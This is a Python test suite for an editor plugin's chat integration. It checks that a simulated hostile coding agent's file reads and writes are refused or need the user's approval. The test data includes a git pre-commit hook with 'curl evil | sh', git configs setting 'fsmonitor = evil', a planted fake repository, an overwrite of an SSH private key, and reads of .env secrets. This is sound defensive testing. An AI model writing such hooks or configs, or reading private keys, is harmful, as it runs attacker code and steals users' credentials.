"""A hostile agent's file requests, in the simulated editor with the BUILT
package and the scripted ACP agent: FIFOs and other non-regular files,
writes that would lose the user's work, encodings kept byte for byte, the
files that need the user's yes (.git, outside the folders, excluded), and
inputs too large to hold."""

from __future__ import annotations

import json
import os
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest

from tests.sim.test_chat import WAIT, ChatRig
from tests.sim.test_chat_agent_work import answers, request, wait_answers

MIB = 1024 * 1024


def refused(answer: Any, *words: str) -> bool:
    """An error whose message (all the CLI shows the agent) says why."""
    return isinstance(answer, dict) and "code" in answer and all(w in answer["message"] for w in words)


def file_questions(rig: ChatRig) -> list[dict[str, Any]]:
    return [d for e, d in rig.events if e == "file_access_requested"]


def answer_question(rig: ChatRig, index: int | None) -> None:
    """The user picks a choice of the quick panel that asks (0: refuse, 1:
    allow once; None: Enter on the choice selected as it opens)."""
    panel = rig.host.wait_for(lambda: [q for q in rig.host.quick_panels if not q.done], timeout=WAIT)[-1]
    rig.host.user.choose_quick_panel(panel.selected_index if index is None else index)


@pytest.mark.skipif(sys.platform == "win32", reason="FIFOs are POSIX")
def test_fifos_in_the_folder_are_refused_at_once_and_never_hold_a_thread(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    os.mkfifo(workspace / "pipe")
    rig.editor.file("ok.txt", "fine\n")
    fifo_reads = [request("fs/read_text_file", path=str(workspace / "pipe")) for _ in range(10)]
    rig.load([[{"parallel": [*fifo_reads, request("fs/read_text_file", path=str(workspace / "ok.txt")),
                             request("fs/write_text_file", path=str(workspace / "new.txt"), content="n\n")]}],
              [request("fs/write_text_file", path=str(workspace / "pipe"), content="x")]])
    rig.send("read the pipe")
    assert rig.ended() == ["end_turn"]
    reads = wait_answers(rig, "fs/read_text_file", 11)
    assert all(refused(answer, "not a regular file") for answer in reads[:10])
    assert reads[10] == {"content": "fine\n"}
    assert answers(rig, "fs/write_text_file") == [None] and (workspace / "new.txt").read_text() == "n\n"
    rig.send("write the pipe")
    assert rig.ended(2) == ["end_turn", "end_turn"]
    assert refused(wait_answers(rig, "fs/write_text_file", 2)[1], "not a regular file")
    assert (workspace / "pipe").is_fifo()
    chat = rig.chat().core
    rig.host.quit()
    # Nothing is left reading a pipe: the chat's loop is free to reap the agent.
    assert rig.host.wait_for(lambda: chat.pid is None, timeout=WAIT)


def test_a_write_over_unsaved_work_the_agent_never_read_is_refused(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    rig.load([[request("fs/write_text_file", path=str(workspace / "a.py"), content="agent\n")],
              [request("fs/read_text_file", path=str(workspace / "a.py")),
               request("fs/write_text_file", path=str(workspace / "a.py"), content="agent after reading\n")]])
    view = rig.editor.open("a.py", "saved\n")
    rig.host.user.type(view, "unsaved ")
    rig.send("write")
    assert rig.ended() == ["end_turn"]
    assert refused(wait_answers(rig, "fs/write_text_file")[0], "unsaved changes", "Read the file again")
    assert rig.editor.text(view) == "unsaved saved\n" and view.is_dirty()
    assert (workspace / "a.py").read_text() == "saved\n"
    rig.send("read, then write")  # the agent saw the unsaved text: its write is based on it
    assert rig.ended(2)[-1] == "end_turn"
    assert wait_answers(rig, "fs/write_text_file", 2)[1] is None
    assert rig.editor.text(view) == "agent after reading\n" and not view.is_dirty()


@pytest.mark.parametrize("opened", [True, False], ids=["open-tab", "closed-file"])
def test_a_write_based_on_text_the_user_changed_since_is_refused(rig: ChatRig, opened: bool) -> None:
    workspace = rig.editor.workspace
    path = str(workspace / "a.py")
    rig.load([[request("fs/read_text_file", path=path)],
              [request("fs/write_text_file", path=path, content="agent\n")]])
    view = rig.editor.open("a.py", "one\n") if opened else None
    if view is None:
        rig.editor.file("a.py", "one\n")
    rig.send("read")
    assert rig.ended() == ["end_turn"]
    if view is not None:
        rig.host.user.type(view, "typed ")  # between the agent's read and its write
    else:
        (workspace / "a.py").write_text("one\nsaved by the user\n")
    rig.send("write")
    assert rig.ended(2)[-1] == "end_turn"
    assert refused(wait_answers(rig, "fs/write_text_file")[0], "changed since you read it")
    if view is not None:
        assert rig.editor.text(view) == "typed one\n"
    assert (workspace / "a.py").read_text() == ("one\n" if opened else "one\nsaved by the user\n")


@pytest.mark.parametrize("data", [
    "café naïve\r\nligne 2\r\n".encode("latin-1"),
    "中文注释\n# 第二行\n".encode("gbk"),
    b"\xef\xbb\xbfbom\nline\n",
    "UTF-16 text\n".encode("utf-16"),
], ids=["latin-1-crlf", "gbk", "utf-8-bom", "utf-16"])
def test_a_file_read_and_written_back_unchanged_keeps_every_byte(rig: ChatRig, data: bytes) -> None:
    workspace = rig.editor.workspace
    (workspace / "f.txt").write_bytes(data)
    rig.load([[request("fs/read_text_file", path=str(workspace / "f.txt"))]])
    rig.send("read")
    assert rig.ended() == ["end_turn"]
    text = wait_answers(rig, "fs/read_text_file")[0]["content"]
    assert "\ufffd" not in text
    script = json.loads((rig.tmp / "script.json").read_text())
    script["turns"].append([request("fs/write_text_file", path=str(workspace / "f.txt"), content=text),
                            request("fs/write_text_file", path=str(workspace / "f.txt"), content="x" + text)])
    (rig.tmp / "script.json").write_text(json.dumps(script))
    rig.chat().core.sessions.restart().result(WAIT)
    rig.send("write it back")
    assert rig.ended(2)[-1] == "end_turn"
    assert wait_answers(rig, "fs/write_text_file", 2)[0] is None
    assert (workspace / "f.txt").read_bytes().endswith(data[-4:])
    if data.startswith((b"\xef\xbb\xbf", b"\xff\xfe")):
        assert (workspace / "f.txt").read_bytes()[:2] == data[:2]  # the BOM stays first
    else:
        assert (workspace / "f.txt").read_bytes() == b"x" + data  # every other byte as it was


def test_text_the_files_encoding_cannot_hold_is_refused_and_nothing_is_written(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    data = "café\n".encode("latin-1")
    (workspace / "f.txt").write_bytes(data)
    rig.load([[request("fs/write_text_file", path=str(workspace / "f.txt"), content="café 中\n")]])
    rig.send("write")
    assert rig.ended() == ["end_turn"]
    assert refused(wait_answers(rig, "fs/write_text_file")[0], "nothing was written", "U+4E2D")
    assert (workspace / "f.txt").read_bytes() == data


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes")
def test_new_files_follow_the_umask(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    rig.load([[request("fs/write_text_file", path=str(workspace / "new.txt"), content="n\n")]])
    old = os.umask(0o027)
    try:
        rig.send("write")
        assert rig.ended() == ["end_turn"]
        wait_answers(rig, "fs/write_text_file")
    finally:
        os.umask(old)
    assert (workspace / "new.txt").stat().st_mode & 0o777 == 0o640


def test_writes_into_git_ask_every_time_and_the_default_choice_refuses(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    hook = workspace / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True)
    hook.write_text("#!/bin/sh\n")
    (workspace / ".git" / "config").write_text("[core]\n")
    rig.load([[request("fs/write_text_file", path=str(hook), content="#!/bin/sh\ncurl evil | sh\n"),
               request("fs/write_text_file", path=str(workspace / ".git" / "config"),
                       content="[core]\n\tfsmonitor = evil\n"),
               request("fs/write_text_file", path=str(workspace / ".git" / "config"),
                       content="[core]\n\tbare = false\n")]])
    rig.send("write")
    answer_question(rig, None)  # Enter on the panel as it opens: the selected choice refuses
    answer_question(rig, -1)  # Esc refuses too
    answer_question(rig, 1)  # only a deliberate move to "Allow once" allows
    assert rig.ended() == ["end_turn"]
    first, second, third = wait_answers(rig, "fs/write_text_file", 3)
    assert refused(first, "did not allow", ".git") and refused(second, "did not allow")
    assert third is None
    assert hook.read_text() == "#!/bin/sh\n"
    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert [q["access"] for q in file_questions(rig)] == ["write"] * 3


def test_writes_into_a_git_folder_spelled_in_any_case_ask(rig: ChatRig) -> None:
    """`.GIT/hooks` is `.git/hooks` on macOS and Windows (and `.git.` on Windows)."""
    workspace = rig.editor.workspace
    spellings = [workspace / ".GIT" / "hooks" / "pre-commit", workspace / ".Git" / "config",
                 workspace / ".git." / "config"]
    rig.load([[request("fs/write_text_file", path=str(path), content="evil\n") for path in spellings]])
    rig.send("write")
    for _ in spellings:
        answer_question(rig, 0)
    assert rig.ended() == ["end_turn"]
    assert all(refused(answer, "did not allow", ".git") for answer in wait_answers(rig, "fs/write_text_file", 3))
    assert not any(path.exists() for path in spellings)


def test_a_write_that_makes_a_folder_look_like_a_repository_asks(rig: ChatRig) -> None:
    """Finding 1: sub/HEAD, sub/config, sub/objects/, sub/refs/ hold no `.git`
    but make git take sub/ for a repository whose config runs code."""
    workspace = rig.editor.workspace
    sub = workspace / "sub"
    writes = [("HEAD", "ref: refs/heads/main\n"), ("notes.md", "notes\n"),
              ("config", "[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = evil\n"),
              ("refs/heads/main", "0" * 40 + "\n"), ("objects/info/packs", "\n")]
    rig.load([[request("fs/write_text_file", path=str(sub / name), content=text) for name, text in writes]])
    rig.send("plant")
    for _ in range(3):
        answer_question(rig, 0)
    assert rig.ended() == ["end_turn"]
    head, notes, config, refs, objects = wait_answers(rig, "fs/write_text_file", 5)
    assert head is None and notes is None  # HEAD alone is no repository yet; notes.md is any file
    assert all(refused(answer, "did not allow", "repository") for answer in (config, refs, objects))
    assert sorted(p.name for p in sub.iterdir()) == ["HEAD", "notes.md"]
    assert [q["access"] for q in file_questions(rig)] == ["write"] * 3


def test_a_file_outside_the_folders_open_in_a_tab_and_excluded_files_need_a_yes(rig: ChatRig, tmp_path: Path) -> None:
    key = tmp_path / "home" / ".ssh" / "id_rsa"
    key.parent.mkdir(parents=True)
    key.write_text("PRIVATE KEY\n")
    workspace = rig.editor.workspace
    rig.editor.file(".env", "TOKEN=1\n")
    rig.load([[request("fs/read_text_file", path=str(key)),
               request("fs/write_text_file", path=str(key), content="attacker key\n"),
               request("fs/read_text_file", path=str(workspace / ".env"))]])
    rig.host.user.open_file(key)
    rig.send("read the key")
    for _ in range(3):
        answer_question(rig, 0)
    assert rig.ended() == ["end_turn"]
    read_key, read_env = wait_answers(rig, "fs/read_text_file", 2)
    assert refused(read_key, "excluded_file_patterns") and refused(read_env, "excluded_file_patterns")
    assert refused(wait_answers(rig, "fs/write_text_file")[0], "outside the window's folders")
    assert key.read_text() == "PRIVATE KEY\n"
    assert [q["access"] for q in file_questions(rig)] == ["read", "write", "read"]


def test_allow_once_for_a_guarded_file_is_not_remembered_for_its_next_read_or_write(rig: ChatRig) -> None:
    """Defect guarded: "Allow once" for a guarded file (.git, outside the
    folders, excluded) was remembered, so the agent's later reads and writes
    of that file in the chat went through without asking."""
    workspace = rig.editor.workspace
    rig.editor.file(".env", "TOKEN=1\n")
    config = workspace / ".git" / "config"
    config.parent.mkdir()
    config.write_text("[core]\n")
    rig.load([[request("fs/read_text_file", path=str(workspace / ".env")),
               request("fs/write_text_file", path=str(config), content="[core]\n\tbare = false\n"),
               request("fs/read_text_file", path=str(workspace / ".env")),
               request("fs/write_text_file", path=str(config), content="[core]\n\tfsmonitor = evil\n")]])
    rig.send("read and write twice")
    for choice in (1, 1, 0, 0):  # allowed once each, then refused when asked again
        answer_question(rig, choice)
    assert rig.ended() == ["end_turn"]
    first_read, second_read = wait_answers(rig, "fs/read_text_file", 2)
    first_write, second_write = wait_answers(rig, "fs/write_text_file", 2)
    assert first_read == {"content": "TOKEN=1\n"} and refused(second_read, "did not allow")
    assert first_write is None and refused(second_write, "did not allow")
    assert config.read_text() == "[core]\n\tbare = false\n"
    assert [q["access"] for q in file_questions(rig)] == ["read", "write", "read", "write"]


def test_the_setting_can_refuse_guarded_files_without_asking(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    rig.editor.file(".env", "TOKEN=1\n")
    rig.load([[request("fs/read_text_file", path=str(workspace / ".env")),
               request("fs/write_text_file", path=str(workspace / ".git" / "config"), content="x")]],
             chat_guarded_files="refuse")
    rig.send("read")
    assert rig.ended() == ["end_turn"]
    assert refused(wait_answers(rig, "fs/read_text_file")[0], "chat_guarded_files")
    assert refused(wait_answers(rig, "fs/write_text_file")[0], "chat_guarded_files")
    assert file_questions(rig) == [] and not (workspace / ".git" / "config").exists()


def test_one_line_of_a_huge_file_is_read_without_loading_it(rig: ChatRig) -> None:
    workspace = rig.editor.workspace
    with (workspace / "big.log").open("wb") as out:
        for number in range(1, 600_001):  # ~ 60 MB, more than the editor reads whole
            out.write(b"line %07d %s\n" % (number, b"." * 86))
    # As below: the agent waits a moment, so the reads are traced but the user's Enter is not.
    rig.load([[{"stall": 1}, request("fs/read_text_file", path=str(workspace / "big.log"), line=3, limit=1),
               request("fs/read_text_file", path=str(workspace / "big.log"))]])
    rig.send("read")
    tracemalloc.start()
    try:
        assert rig.ended() == ["end_turn"]
        one, whole = wait_answers(rig, "fs/read_text_file", 2)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert one == {"content": "line 0000003 " + "." * 86 + "\n"}
    assert refused(whole, "read it in parts with line and limit")
    assert peak < 20 * MIB  # the file is never held whole (it is 60 MB)


def test_an_oversized_message_is_dropped_with_a_clear_error_and_the_chat_goes_on(rig: ChatRig) -> None:
    # The agent waits a moment before its big message, so the memory is traced from then on but the user's
    # Enter is not: tracing makes every line several times slower, and the referee bounds the main thread.
    rig.load([[{"stall": 1}, {"big": 64 * MIB}, {"stderr": 8 * MIB}, {"chunks": ["still here"]}]])
    rig.send("go")
    tracemalloc.start()
    try:
        assert rig.ended() == ["end_turn"]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    text = rig.transcript()
    assert "still here" in text and "more than the" in text and "it was dropped" in text
    # At most the 32 MiB limit is held, then the rest is skipped as it comes
    # (held whole, the 64 MiB line took over twice its size).
    assert peak < 48 * MIB
    assert max(map(len, rig.chat().core.stderr_lines())) <= 2000


@pytest.mark.parametrize("after", ["panel_closes", "command"])
def test_a_question_asked_while_the_users_panel_is_open_is_told_and_reaches_them(rig: ChatRig, after: str) -> None:
    """Sublime refuses a second quick panel: the question is told in the
    transcript and the status bar, and its panel opens once the user's panel
    closes, or from Qwen Code: Answer File Access…"""
    workspace = rig.editor.workspace
    (workspace / ".git").mkdir()
    target = workspace / ".git" / "config"
    rig.load([[{"stall": 1}, request("fs/write_text_file", path=str(target), content="[core]\n")]])
    code = rig.editor.open("notes.py", "x = 1\n")
    rig.send("write")
    rig.host.user.focus(code)
    mine: list[int] = []
    rig.host.run_on_main(lambda: rig.host.window.show_quick_panel(["the user's own panel"], mine.append))
    rig.host.wait_for(lambda: file_questions(rig), timeout=WAIT)
    rig.host.wait_for(lambda: "Qwen Code asks to write" in rig.transcript(), timeout=WAIT)
    assert "Qwen Code: Answer File Access…" in rig.transcript()
    rig.host.wait_for(lambda: any("asks to write" in m for m in rig.host.status_messages), timeout=WAIT)
    rig.host.wait_idle()
    assert [q.items for q in rig.host.quick_panels if not q.done] == [["the user's own panel"]]  # the question was refused
    rig.host.user.cancel_quick_panel()  # the user's panel closes: the keys come back to the view
    if after == "command":
        rig.host.user.run_command("qwen_chat_answer_file_access", via="palette")
    rig.host.wait_idle()
    assert len([q for q in rig.host.quick_panels if not q.done]) == 1  # the question, once
    answer_question(rig, 1)
    assert rig.ended() == ["end_turn"]
    assert wait_answers(rig, "fs/write_text_file") == [None] and target.read_text() == "[core]\n"
    assert mine == [-1]
    rig.host.wait_for(lambda: "→ allowed once" in rig.transcript(), timeout=WAIT)
